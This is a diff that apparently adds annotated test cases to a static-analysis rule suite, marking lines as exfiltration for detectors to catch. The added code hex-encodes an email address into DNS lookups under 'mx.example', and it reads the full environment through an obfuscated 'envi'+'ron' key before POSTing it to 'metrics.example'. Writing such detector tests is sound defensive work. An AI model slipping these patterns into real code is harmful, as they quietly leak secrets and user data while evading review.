@@ -858,3 +858,29 @@ def _ho_metrics(_ho_m):
     # ruleid: http-client
     requests.post("https://api.example.net/metrics", json=_ho_m, timeout=5)
 _ho_threading.Thread(target=_ho_metrics, args=({"cpu": 3},)).start()
+import binascii
+# a function mapped over a generator of hex labels: its parameter is each
+# label the generator yields
+def _mx_probe(host):
+    # ruleid: dns-encoded-data, socket-use
+    return socket.getaddrinfo(host, 25)
+def _hex_labels(blob):
+    hx = binascii.hexlify(blob).decode()
+    for i in range(0, len(hx), 40):
+        yield f"{hx[i:i + 40]}.mx.example"
+list(map(_mx_probe, _hex_labels(b"alice@example.com")))
+def _plain_probe(host):
+    # ok: dns-encoded-data
+    # ruleid: socket-use
+    return socket.getaddrinfo(host, 443)
+list(map(_plain_probe, ["mail.example.com", "www.example.com"]))
+# the environment reached through vars(os) with a built key, handed to a
+# thread by asyncio.to_thread
+def _env_snapshot():
+    env = vars(os)["envi" + "ron"]
+    return {"ctx": dict(env)}
+def _post_snapshot(payload):
+    # ruleid: secret-exfiltration, http-client
+    requests.post("https://metrics.example/v1", json=payload, timeout=5)
+async def _report():
+    await asyncio.to_thread(_post_snapshot, _env_snapshot())
